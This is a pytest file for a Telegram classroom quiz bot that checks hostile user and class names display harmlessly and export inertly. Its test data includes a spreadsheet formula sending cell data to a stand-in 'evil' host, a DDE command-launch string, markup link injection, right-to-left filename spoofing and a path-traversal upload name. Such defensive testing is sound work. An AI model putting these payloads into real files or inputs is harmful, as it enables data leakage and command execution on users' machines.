"""Rows 8, 9 and 10: names that are no names, on every screen and in every file."""

import csv
import io
import re
import unicodedata

import openpyxl
import pytest

from bot.playground.formatted import spoken
from bot.quiz.naming import as_name
from tests.judge import is_ours
from tests.stage import JSON, Person, Stage, labels
from tests.stories.school import RIVERA, a_teacher, downloads, gives, goes_through, joins, results, the_link

HOSTILE = {
    "html": "<b>x</b><a href='tg://user?id=1'>&amp;",
    "unclosed": "</b><i><pre>&lt;&#60;",
    "markdown": "*_`[x](tg://user?id=1)||",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "array formula": "{=SUM(A1)}",
    "command": "@SUM(1+1)*cmd|'/C calc'!A0",
    "semicolon": 'x";=1+1;"',
    "full width": "＝1+1",
    "right to left": "\u202egpj.exe\u202c\u2067x\u2069",
    "isolates closed": "a\u2069\u2069\u2069\u202eb",
    "zero width": "a\u200b\u200c\ufeff\u2060b",
    "invisible": "\u200b\u2060\ufeff\u00ad",
    "combining": "Z" + "\u0351" * 60,
    "emoji": "👩‍👩‍👧🇮🇩🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "half an emoji": "a\ud83d b\udfff",
    "long": "<" * 4096,
    "lines": "a\r\nb\tc\x00\x07\u2028d",
    "template": "{name} {0} %s %(x)s ${x}",
    "address": "evil.com",
    "address in capitals": "HTTPS://EVIL.COM:443/x",
    "mention": "@someone",
    "hashtag": "#x",
    "cashtag": "$ABC",
    "person by number": "tg://user?id=1",
    "mail": "ani@mail.example.com",
    "bot's command": "Ani /delete",
    "hidden command": "(/\u030adelete",
    "card": "Ani 4111111111111111",
    "card in groups": "Ani 4111 1111 1111 1111",
    "telephone": "Ani +62 812-3456-7890",
}
STYLES = frozenset({"bold", "italic", "code", "pre", "blockquote", "expandable_blockquote", "text_link"})
"""Entities in which nothing was found by Telegram; a link leads where its markup says."""
CONTROLS = re.compile("[\u202a-\u202e\u2066\u2067\u200e\u200f\u061c]")


@pytest.mark.parametrize("evil", HOSTILE.values(), ids=HOSTILE.keys())
async def test_a_hostile_name_is_shown_as_it_is_and_does_nothing(school: Stage, evil: str) -> None:
    school.instructors = (RIVERA,)
    teacher, ani = await _a_teacher_named(school, evil), school.person(1, evil, "en")
    link = await the_link(teacher)
    await ani.says("/start")
    await joins(ani, link)
    for label in ("Another name", "My student id"):
        await ani.says("/classes")
        await ani.taps(labels(ani.sees)[0], ani.sees)
        await ani.taps(label, ani.sees)
        await ani.says(evil)
    await gives(teacher)
    await ani.says("/classes")
    await ani.taps(labels(ani.sees)[0], ani.sees)
    await ani.taps("What is shared", ani.sees)
    shared = ani.sees
    await ani.taps("Back to the class", ani.sees)
    await ani.taps("Leave the class", ani.sees)
    await ani.taps("Stay", ani.sees)
    await ani.taps("Start it now", ani.sees)
    await goes_through(ani, 2)
    for command in ("/start", "/help", "/progress", "/settings", "/privacy", "/quiz", evil or "x"):
        await ani.says(command[:4000])
    await _see_everything(teacher)

    shown = as_name(spoken(evil).text)  # what Telegram keeps of a typed text
    assert _says(teacher, shown)
    assert _says(ani, shown)
    if shown:
        assert shown in shared["text"]
    for message in (*teacher.chat, *ani.chat):
        _is_tame(message)
    for form in ("CSV", "CSV without names", "Excel", "Report", "Moodle", "Canvas", "xAPI"):
        await _file_is_inert(teacher, form)


async def _a_teacher_named(school: Stage, evil: str) -> Person:
    """A teacher and a class of that name; where nothing of it can be shown, it is asked for again."""
    teacher = await a_teacher(school, RIVERA, evil, "Class")
    if not as_name(evil):
        assert "Which name shall learners read" in (await teacher.says(evil))["text"]
        await teacher.says("Dr. Rivera")
    for button in ("Rename", "Upload a list of ids"):
        await teacher.says("/teach")
        await teacher.taps(labels(teacher.sees)[0], teacher.sees)
        await teacher.taps("Class settings", teacher.sees)
        await teacher.taps(button, teacher.sees)
        if button == "Rename":
            await teacher.says(evil[:4000])
        else:
            listed = io.StringIO()
            csv.writer(listed).writerows([["id"], [re.sub("[\x00\x07]", "", evil)], ["S-1"]])
            content = listed.getvalue().encode(errors="replace")
            school.world.send(RIVERA, "document", upload=("../../=x.csv", content, "text/csv"))
            await school.deliver()
            await teacher.taps("Keep them")
    return teacher


async def _see_everything(teacher: Person) -> None:
    """Every screen of a class on which somebody's name may stand."""
    await teacher.says("/teach")
    room = await teacher.taps(labels(teacher.sees)[0], teacher.sees)
    for label in ("Learners", "What is mixed up", "What was learnt", "Class settings", "Give a quiz"):
        seen = await teacher.taps(label, room)
        if label == "Learners":
            await teacher.taps("1", seen)
        await teacher.says("/teach")
        room = await teacher.taps(labels(teacher.sees)[0], teacher.sees)
    await teacher.taps("Class settings", room)
    await teacher.taps("Delete the class", teacher.sees)
    for label in ("By question", "By learner", "As a picture"):
        await results(teacher)
        await teacher.taps(label, teacher.sees)


def _says(person: Person, shown: str) -> bool:
    return any(shown in message.get("text", "") for message in person.chat)


def _is_tame(message: JSON) -> None:
    """No control of direction but isolates that are closed, and no link or mention that a name has made."""
    text = message.get("text", "") + message.get("caption", "")
    for words in (text, *labels(message)):
        assert not CONTROLS.search(words)
        assert words.count("\u2068") == words.count("\u2069")
        assert all(unicodedata.category(c) not in ("Cs", "Cc") or c == "\n" for c in words)
        for line in words.splitlines():
            depth = 0
            for c in line:
                depth += (c == "\u2068") - (c == "\u2069")
                assert depth in (0, 1)
    for entity in message.get("entities", []) + message.get("caption_entities", []):
        words = _words(text, entity)
        assert entity["type"] in STYLES or is_ours(words), (entity["type"], words)
        assert entity["type"] != "text_link" or is_ours(entity["url"])


def _words(text: str, entity: JSON) -> str:
    begin, end = 2 * entity["offset"], 2 * (entity["offset"] + entity["length"])
    return text.encode("utf-16-le")[begin:end].decode("utf-16-le")


async def _file_is_inert(teacher: Person, form: str) -> None:
    content = await downloads(teacher, form)
    assert re.fullmatch(r"[a-z0-9_.-]+", teacher.sees["document"]["file_name"])
    assert not teacher.sees["document"]["file_name"].startswith((".", "-"))
    if form == "Excel":
        for sheet in openpyxl.load_workbook(io.BytesIO(content)):
            cells = [cell for row in sheet.iter_rows() for cell in row]
            assert all(cell.data_type != "f" for cell in cells if "evil" in str(cell.value) or "SUM" in str(cell.value))
            assert not any(cell.hyperlink and "evil" in str(cell.hyperlink.target) for cell in cells)
    elif form == "Report":
        page = content.decode()
        assert not re.search(r"<(a|script|img|pre)\b[^>]*(evil|tg:)", page)
        assert "<b>x</b>" not in page
    elif form != "xAPI":
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
            assert not any(re.match("[=+\\-@\t\r\n＝＋－＠]", cell.lstrip(" \u200b\ufeff")) for cell in row)
